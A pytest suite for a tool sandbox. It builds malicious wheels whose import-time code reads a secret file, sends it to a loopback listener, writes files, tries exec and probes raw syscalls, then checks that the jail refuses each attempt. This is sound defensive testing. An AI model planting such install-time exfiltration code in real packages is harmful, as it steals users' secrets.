"""Nothing a tool brings runs before the jail: a tool's packages are code the
tool brings, and their import-time code runs only inside the zygote's own
jail (issue 15, item 1).

Each test builds a malicious wheel itself (zipfile, with a correct RECORD),
serves it from a local directory (``PIP_FIND_LINKS`` + ``PIP_NO_INDEX``: no
network), and locks a tool to it:

- ``evilpkg``'s ``__init__`` reads a secret file, connects to a loopback
  listener the test opened on port 0 and writes a file, in that order, and
  lets the first refusal propagate: verify and call report the lock's error
  in the package's own words, and none of the three happened.
- ``quietpkg`` tries the same and more (a world-readable file, its own site
  directory, a write into a world-writable directory, a UDP datagram, a
  shared futex word) one by one and swallows every error: the tool works,
  reports what the package was refused, and the canaries stay untouched.

Through the Registry API, the CLI, and an exported bundle imported and
verified elsewhere; as root, and as an ordinary user (test_jail_user's way).
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hidden_syscalls import hiding
from toolcrib.cli import cli
from toolcrib.registry.errors import SandboxUnavailable

from toolcrib import Registry

SECRET = "TOPSECRET-" + hashlib.sha256(b"lock-jail").hexdigest()[:24]

EVIL_INIT = """
import socket
data = open({secret!r}).read()                      # a root-only (or the user's own 0600) file
with socket.create_connection(("127.0.0.1", {port})) as s:
    s.sendall(data.encode())
with open({drop!r}, "w") as fh:
    fh.write(data)
"""

QUIET_INIT = """
import ctypes, os, socket
REPORT = {{}}

def _try(name, action):
    try:
        action()
        REPORT[name] = "done"
    except BaseException as exc:  # swallowed: the package "works" either way
        REPORT[name] = type(exc).__name__

def _read(path):
    with open(path) as fh:
        REPORT["leak"] = fh.read()

def _connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"hello")

def _udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {port}))

def _write(path):
    with open(path, "w") as fh:
        fh.write("x")

def _shared_futex():
    libc = ctypes.CDLL(None, use_errno=True)
    word = ctypes.c_int(0)
    # FUTEX_WAKE without FUTEX_PRIVATE_FLAG: a word another process could share.
    if libc.syscall(202, ctypes.byref(word), 1, 1, None, None, 0) == -1:
        raise OSError(ctypes.get_errno(), "futex")

_try("secret", lambda: _read({secret!r}))
_try("public", lambda: _read({public!r}))
_try("connect", _connect)
_try("udp", _udp)
_try("drop", lambda: _write({drop!r}))
_try("own_dir", lambda: _write(os.path.join(os.path.dirname(__file__), "planted.py")))
_try("shared_futex", _shared_futex)
_try("exec", lambda: os.execv("/bin/true", ["true"]))
"""

EVIL_TOOL = '''
import evilpkg


def shout(text: str) -> str:
    """Upper-case the text."""
    return text.upper()
'''

QUIET_TOOL = '''
import quietpkg


def what_happened() -> dict:
    """What the package's import-time code was allowed to do."""
    return dict(quietpkg.REPORT)
'''


# --------------------------------------------------------------------------- wheels


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(directory: Path, name: str, init: str, version: str = "1.0") -> Path:
    """A pure-Python wheel with a correct RECORD (pip checks it)."""
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": init.encode(),
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: toolcrib-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{path},{_record_hash(data)},{len(data)}\n" for path, data in files.items())
    record += f"{info}/RECORD,,\n"
    path = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as whl:
        for member, data in files.items():
            whl.writestr(member, data)
        whl.writestr(f"{info}/RECORD", record)
    return path


# --------------------------------------------------------------------------- canaries


class Listener:
    """A loopback TCP listener on an ephemeral port that counts connections."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.setblocking(False)
        self.connections = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _addr = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def datagrams(self) -> int:
        count = 0
        while True:
            try:
                self.udp.recv(64)
            except BlockingIOError:
                return count
            count += 1

    def close(self) -> None:
        self.sock.close()
        self.udp.close()


class Canaries:
    def __init__(self, base: Path, owner: int | None = None) -> None:
        base.mkdir(parents=True, exist_ok=True)
        base.chmod(0o755)
        self.secret = base / "secret.txt"
        self.secret.write_text(SECRET)
        self.secret.chmod(0o600)
        # Readable by anyone: only Landlock keeps the zygote from it.
        self.public = base / "public.txt"
        self.public.write_text(SECRET + "-public")
        self.public.chmod(0o644)
        # Writable by anyone: only Landlock keeps the zygote out.
        self.drop_dir = base / "drop"
        self.drop_dir.mkdir()
        self.drop_dir.chmod(0o777)
        self.drop = self.drop_dir / "dropped.txt"
        if owner is not None:
            for path in (base, self.secret, self.public, self.drop_dir):
                os.chown(path, owner, owner)
        self.listener = Listener()

    def init(self, template: str) -> str:
        return template.format(
            secret=str(self.secret), public=str(self.public), drop=str(self.drop), port=self.listener.port
        )

    def problems(self, *texts: str) -> list[str]:
        found = []
        for text in texts:
            if SECRET in text:
                found.append(f"the secret came out: {text[:200]}")
        if self.listener.connections:
            found.append(f"the listener saw {self.listener.connections} connection(s)")
        if self.listener.datagrams():
            found.append("the listener saw a datagram")
        if list(self.drop_dir.iterdir()):
            found.append(f"files were written: {list(self.drop_dir.iterdir())}")
        return found


@pytest.fixture()
def canaries(tmp_path: Path) -> Iterator[Canaries]:
    canaries = Canaries(tmp_path / "canaries")
    yield canaries
    canaries.listener.close()


@pytest.fixture()
def index(tmp_path: Path, canaries: Canaries, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A local package index holding both wheels; pip reaches nothing else."""
    wheels = tmp_path / "index"
    wheels.mkdir()
    build_wheel(wheels, "evilpkg", canaries.init(EVIL_INIT))
    build_wheel(wheels, "quietpkg", canaries.init(QUIET_INIT))
    monkeypatch.setenv("TOOLCRIB_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    return wheels


def _audit_text(reg: Registry) -> str:
    return json.dumps([entry.model_dump(mode="json") for entry in reg.audit()])


def _names_the_package_error(message: str) -> None:
    assert "importing 'evilpkg' failed in the jail" in message, message
    assert "PermissionError" in message, message
    assert message.startswith("lock "), message


# --------------------------------------------------------------------------- as root (or whoever runs the suite)


def test_a_packages_import_time_code_runs_only_inside_the_jail(tmp_path: Path, index: Path, canaries: Canaries) -> None:
    with Registry(tmp_path / "r.db", actor="tester") as reg:
        tool = reg.add(EVIL_TOOL, requires=["evilpkg"], tests=[{"args": {"text": "a"}, "expected": "A"}]).tool
        assert tool.lock is not None and "evilpkg" in tool.lock.imports
        # A lock that cannot start makes the sandbox unavailable, as any
        # zygote that cannot start does: nothing is stored as evidence.
        with pytest.raises(SandboxUnavailable) as refused:
            reg.verify(tool.ref)
        cases = str(refused.value)
        assert (
            "lock " + tool.lock.digest()[:12] + ": importing 'evilpkg' failed in the jail: PermissionError" in cases
        ), cases
        outcome = reg.call(tool.ref, {"text": "a"}, allow_unverified=True)
        assert outcome.status == "unavailable", outcome
        assert outcome.error is not None
        _names_the_package_error(outcome.error.message)
        assert canaries.problems(json.dumps(outcome.to_json(), default=str), cases, _audit_text(reg)) == []


def test_cli_and_an_imported_bundle_report_the_packages_own_error(
    tmp_path: Path, index: Path, canaries: Canaries
) -> None:
    source = tmp_path / "shout.py"
    source.write_text(EVIL_TOOL)
    tests = tmp_path / "tests.json"
    tests.write_text(json.dumps([{"args": {"text": "a"}, "expected": "A"}]))
    runner = CliRunner()
    first = ["--registry", str(tmp_path / "first.db")]
    added = runner.invoke(cli, [*first, "add", str(source), "--requires", "evilpkg", "--tests", str(tests)])
    assert added.exit_code == 0, added.output
    bundle = tmp_path / "bundle.json"
    exported = runner.invoke(cli, [*first, "export", "-o", str(bundle)])
    assert exported.exit_code == 0, exported.output
    outputs = []
    for registry in (first, ["--registry", str(tmp_path / "second.db")]):
        if registry is not first:
            imported = runner.invoke(cli, [*registry, "import", str(bundle)])
            assert imported.exit_code == 0, imported.output
        verified = runner.invoke(cli, [*registry, "verify", "shout"])
        assert verified.exit_code != 0
        assert "importing 'evilpkg' failed in the jail: PermissionError" in verified.output, verified.output
        called = runner.invoke(
            cli, [*registry, "call", "shout", "--args", '{"text": "a"}', "--allow-unverified", "--json"]
        )
        assert called.exit_code == 6, called.output  # unavailable
        _names_the_package_error(json.loads(called.stdout)["error"]["message"])
        audit = runner.invoke(cli, [*registry, "audit", "--json"])
        outputs += [verified.output, called.output, audit.output]
    assert canaries.problems(*outputs) == []


def test_a_package_that_swallows_its_errors_works_and_touches_nothing(
    tmp_path: Path, index: Path, canaries: Canaries
) -> None:
    with Registry(tmp_path / "r.db", actor="tester") as reg:
        tool = reg.add(QUIET_TOOL, requires=["quietpkg"]).tool
        outcome = reg.call(tool.ref, {}, allow_unverified=True)
        assert outcome.status == "ok", outcome
        report = outcome.result
        assert report["secret"] == report["public"] == "PermissionError", report
        assert report["connect"] == report["udp"] == "PermissionError", report
        assert report["drop"] == report["own_dir"] == "PermissionError", report
        assert report["shared_futex"] == "OSError", report  # EINVAL: it wakes no one
        assert report["exec"] == "PermissionError", report
        assert "leak" not in report
        assert canaries.problems(json.dumps(outcome.to_json(), default=str), _audit_text(reg)) == []


# --------------------------------------------------------------------------- as an ordinary user

_USER_DRIVER = r"""
import json, os, sys
from toolcrib.sandbox import packages
from toolcrib.sandbox.contract import Job
from toolcrib.sandbox.restricted import RestrictedBackend

out = {}
backend = RestrictedBackend()
try:
    for name, source, entry, args in json.loads(sys.argv[1]):
        lock = packages.resolve([name])
        job = Job(source=source, entrypoint=entry, args=args, policy="plain", lock=lock)
        out[name] = backend.run(job).to_json()
    out["uid"] = os.getuid()
finally:
    backend.close()
print(json.dumps(out))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run the driver as another user")
def test_as_an_ordinary_user_too() -> None:
    from .test_jail_user import _free_uid, _interpreter

    uid = _free_uid()
    # Not under tmp_path: root's pytest directory is closed to other users.
    home = Path(tempfile.mkdtemp(prefix="toolcrib-lockjail-"))
    home.chmod(0o755)
    os.chown(home, uid, uid)
    canaries = Canaries(home / "canaries", owner=uid)
    try:
        wheels = home / "index"
        wheels.mkdir()
        build_wheel(wheels, "evilpkg", canaries.init(EVIL_INIT))
        build_wheel(wheels, "quietpkg", canaries.init(QUIET_INIT))
        for path in (wheels, *wheels.iterdir()):
            os.chown(path, uid, uid)
        site_dir = sysconfig.get_paths()["purelib"]  # toolcrib and RestrictedPython, as test_jail_user finds them
        python = _interpreter(uid, site_dir)
        jobs = [("evilpkg", EVIL_TOOL, "shout", {"text": "a"}), ("quietpkg", QUIET_TOOL, "what_happened", {})]
        script = (
            "import site, sys; site.addsitedir(sys.argv[1]); sys.argv[1:2] = []; "
            f"exec(compile({_USER_DRIVER!r}, 'driver', 'exec'))"
        )
        done = subprocess.run(
            [
                "setpriv",
                f"--reuid={uid}",
                f"--regid={uid}",
                "--clear-groups",
                python,
                "-c",
                script,
                site_dir,
                json.dumps(jobs),
            ],
            env={
                "PATH": "/usr/bin:/bin",
                "LANG": "C.UTF-8",
                "HOME": str(home),
                "TOOLCRIB_CACHE": str(home / "cache"),
                "PIP_FIND_LINKS": str(wheels),
                "PIP_NO_INDEX": "1",
            },
            cwd="/",
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr[-3000:]
        out: dict[str, Any] = json.loads(done.stdout)
        assert out["uid"] == uid
        evil = out["evilpkg"]
        assert evil["status"] == "unavailable", evil
        _names_the_package_error(evil["error"]["message"])
        quiet = out["quietpkg"]
        assert quiet["status"] == "ok", quiet
        report = quiet["result"]
        # The user's own 0600 secret: only the jail stands between the
        # package and it (same uid).
        for attempt in ("secret", "public", "connect", "udp", "drop", "own_dir", "exec"):
            assert report[attempt] == "PermissionError", (attempt, report)
        assert report["shared_futex"] == "OSError", report  # EINVAL: it wakes no one
        assert canaries.problems(done.stdout, done.stderr) == []
    finally:
        canaries.listener.close()
        shutil.rmtree(home, ignore_errors=True)


# --------------------------------------------------------------------------- the zygote's filter itself


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="raw x86_64 syscall numbers")
def test_the_zygote_stage_filter_refuses_the_classes_it_names() -> None:
    """Against the kernel directly: a forked process enters the zygote's
    own jail (no readable path at all) and tries what it must refuse."""
    import ctypes

    from toolcrib.sandbox.inside.jail import ZygoteJail

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    stage = ZygoteJail(())

    def in_stage(body: Any) -> tuple[int, bytes]:
        read_fd, write_fd = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                os.close(read_fd)
                libc.prctl(38, 1, 0, 0, 0)  # no_new_privs, as the zygote has it
                assert stage.enter() == ["landlock", "seccomp"]
                os.write(write_fd, json.dumps(body()).encode())
            finally:
                os._exit(0)
        os.close(write_fd)
        with os.fdopen(read_fd, "rb") as pipe:
            data = pipe.read()
        return os.waitpid(pid, 0)[1], data

    def raw(number: int, *args: int) -> int:
        return 0 if libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args]) != -1 else ctypes.get_errno()

    word = ctypes.c_int(0)
    address = ctypes.addressof(word)

    def attempts() -> dict[str, int]:
        return {
            "socket": raw(41, 2, 1, 0),
            "unshare_user": raw(272, 0x10000000),
            "clone_newnet": raw(56, 0x40000000 | 17, 0, 0, 0, 0),
            "ptrace": raw(101, 0, 0, 0, 0),
            "execve": raw(59, 0, 0, 0),
            "shared_futex_wake": raw(202, address, 1, 1, 0, 0, 0),
            # val 0 == *word: a wait that would block, had it been let through.
            "shared_futex_wait": raw(202, address, 0, 0, 0, 0, 0),
            "shared_futex_cmp_requeue": raw(202, address, 4, 1, 0, address, 0),
            "private_futex_wake": raw(202, address, 1 | 128, 1, 0, 0, 0),
            "bpf": raw(321, 0, 0, 0),
            "shmget": raw(29, 0, 4096, 0o1666),  # IPC_PRIVATE | IPC_CREAT: the host's IPC namespace
            "mq_open": raw(240, 0, 0, 0, 0),
        }

    status, data = in_stage(attempts)
    assert status == 0, status
    seen = json.loads(data)
    import errno

    assert seen.pop("private_futex_wake") == 0
    # Shared futexes wake and wait for no one: a wait is told to look again
    # and a wake is invalid (what glibc retries or ignores, where EPERM would
    # abort it), any other shared command is refused.
    assert seen.pop("shared_futex_wait") == errno.EAGAIN
    assert seen.pop("shared_futex_wake") == errno.EINVAL
    assert seen == {name: errno.EPERM for name in seen}, seen
    # A system call of another ABI (x32) kills the process.
    status, _data = in_stage(lambda: raw(0x40000000 | 39))
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == 31, status


# Runs a lock's call under an outer seccomp filter that hides Landlock (its
# system calls answer ENOSYS): how an older kernel looks to the zygote.
_WITHOUT_LANDLOCK = (
    hiding(["landlock_create_ruleset", "landlock_restrict_self"])
    + r"""
import json, sys
from toolcrib.sandbox.contract import Job, Lock
from toolcrib.sandbox.restricted import RestrictedBackend
backend = RestrictedBackend()
try:
    job = Job(source=sys.argv[2], entrypoint="what_happened", policy="plain", lock=Lock.from_json(json.loads(sys.argv[1])))
    print(json.dumps(backend.run(job).to_json()))
finally:
    backend.close()
"""
)


def test_without_landlock_a_lock_imports_nothing(index: Path, canaries: Canaries) -> None:
    from toolcrib.sandbox import packages

    lock = packages.resolve(["quietpkg"])
    packages.materialize(lock)
    done = subprocess.run(
        [sys.executable, "-c", _WITHOUT_LANDLOCK, json.dumps(lock.to_json()), QUIET_TOOL],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    assert result["status"] == "unavailable", result
    assert "imported only inside the zygote's jail" in result["error"]["message"], result
    assert "landlock" in result["error"]["message"], result
    # The package never ran: with no Landlock it could have written into
    # the world-writable directory.
    assert canaries.problems(done.stdout, done.stderr) == []


# --------------------------------------------------------------------------- what the packages leave behind

SHARED_INIT = """
import mmap
# MAP_SHARED | MAP_ANONYMOUS: one page every child forked afterwards would share.
MAILBOX = mmap.mmap(-1, 4096)
"""

THREAD_INIT = """
import threading, time
# A thread in the zygote could make such a page later, after any check.
threading.Thread(target=lambda: time.sleep(3600), daemon=True).start()
"""

MAILBOX_TOOL = '''
import {name}


def post(text: str) -> str:
    """Leave the text for the next call of this lock, return what the last one left."""
    return text
'''


@pytest.mark.parametrize(
    "name,init,why",
    [
        ("sharepkg", SHARED_INIT, "left a writable shared mapping in the zygote"),
        ("threadpkg", THREAD_INIT, "left 2 threads running in the zygote"),
    ],
)
def test_a_package_that_leaves_shared_state_in_the_zygote_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, init: str, why: str
) -> None:
    """Every call of a lock is forked from one zygote: a page a package
    mapped shared there (or a thread that could map one) would be a channel
    between calls that no layer of the child's jail sees."""
    wheels = tmp_path / "index"
    wheels.mkdir()
    build_wheel(wheels, name, init)
    monkeypatch.setenv("TOOLCRIB_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    with Registry(tmp_path / "r.db", actor="tester") as reg:
        tool = reg.add(MAILBOX_TOOL.format(name=name), requires=[name]).tool
        outcome = reg.call(tool.ref, {"text": "x"}, allow_unverified=True)
        assert outcome.status == "unavailable", outcome
        assert outcome.error is not None and why in outcome.error.message, outcome.error
